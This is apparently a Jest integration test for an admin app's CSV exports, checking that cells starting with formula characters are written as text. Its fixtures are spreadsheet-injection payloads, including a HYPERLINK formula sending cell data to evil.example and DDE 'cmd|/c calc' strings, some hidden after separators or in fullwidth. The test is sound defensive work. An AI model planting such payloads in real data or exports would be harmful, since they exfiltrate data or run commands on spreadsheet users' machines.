import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { AdminClient } from '../support/admin-client.js';
import { freshDatabase, type TestDatabase } from '../support/database.js';
import { example } from '../support/examples.js';
import { importDoc } from '../support/import.js';
import { serveApp, type WebApp } from '../support/web-app.js';
import { parseCsv } from '../support/csv.js';

/**
 * Spreadsheet formulas in exports (issue 17, finding 6): a cell that starts with = + - @, a tab
 * or a carriage return is written as text (a leading '), in the records' export as in the audit
 * trail's CSV — one function for both.
 */
let db: TestDatabase;
let web: WebApp;
let admin: AdminClient;

const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")', '@SUM(1+1)*cmd|"/c calc"!A0', '+33 6 00 00 00 00', '-2+3', '\tTabulé', '\rRetour'];
/** Formulas further in: after a comma (a spreadsheet that splits on `,`), after spaces, after a line feed, in fullwidth. */
const HIDDEN = ['Dupont,=HYPERLINK("https://evil.example")', '  =1+1', '\n=1+1', '＝1+1', 'Martin,@SUM(A1)', 'Zed;=1+1;', "Lyon, +cmd|'/C calc'!A0"];
/** Every cell of a CSV line is quoted: `"…";"…"`, with `"` doubled inside. */
const allQuoted = (text: string) => parseCsvRaw(text).every((row) => row.every((cell) => /^"(?:[^"]|"")*"$/s.test(cell)));

/** The cells of a CSV as written, quotes included (`;`, or another separator as a spreadsheet may choose). */
const parseCsvRaw = (text: string, separator = ';') => parseCsv(text, { separator, keepQuotes: true });

beforeAll(async () => {
  db = await freshDatabase();
  await importDoc(db.ds, example());
  web = await serveApp(db);
  admin = await AdminClient.signIn(web.url, 'admin');
  for (const name of [...HOSTILE, ...HIDDEN]) expect((await admin.create('Account', { name })).status).toBe(200);
});
afterAll(async () => {
  await web?.close();
  await db?.drop();
});

describe('finding 6: exports never write a live formula', () => {
  it('the records’ export writes each hostile name as text, behind a leading quote', async () => {
    const r = await admin.export('Account');
    expect(r.status).toBe(200);
    const rows = parseCsv(r.body.csv.replace(/^\uFEFF/, ''));
    const nameColumn = rows[0].indexOf('name');
    const names = rows.slice(1).map((row) => row[nameColumn]);
    for (const name of HOSTILE) expect(names).toContain(`'${name}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the audit trail’s CSV does the same with the same names (one implementation)', async () => {
    const res = await fetch(`${web.url}/admin/portier/audit.csv?module=Account&action=create`, { headers: { cookie: admin.cookie } });
    const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const changes = rows
      .slice(1)
      .map((row) => row[8])
      .join('\n');
    expect(changes).toContain('=HYPERLINK'); // inside its cell, after "name : (vide) → "
  });

  it('every cell is quoted, and a formula hidden after a comma, spaces, a line feed or in fullwidth is defused too', async () => {
    const csv = (await admin.export('Account')).body.csv.replace(/^\uFEFF/, '');
    expect(allQuoted(csv)).toBe(true);
    const names = parseCsv(csv).map((row) => row[parseCsv(csv)[0].indexOf('name')]);
    for (const name of HIDDEN.filter((n) => !/[,;\n]/.test(n))) expect(names).toContain(`'${name}`);
    // Inside a cell, a formula start after a separator gets its quote where it is.
    expect(names).toEqual(expect.arrayContaining(["'\n'=1+1", "Zed;'=1+1;", "Lyon, '+cmd|'/C calc'!A0", "Martin,'@SUM(A1)"]));
    // Read as a spreadsheet that splits on commas would: no cell starts a formula.
    for (const cell of parseCsvRaw(csv, ',').flat()) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    // Read by one that honours quotes only at a cell's start (found in an attack): split anywhere.
    for (const piece of csv.split(/[,;\t\r\n]/)) expect(piece.replace(/^["\s\u00a0\u3000]*/, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
    const audit = await fetch(`${web.url}/admin/portier/audit.csv?module=Account&action=create`, { headers: { cookie: admin.cookie } });
    expect(allQuoted((await audit.text()).replace(/^\uFEFF/, ''))).toBe(true);
  });
});
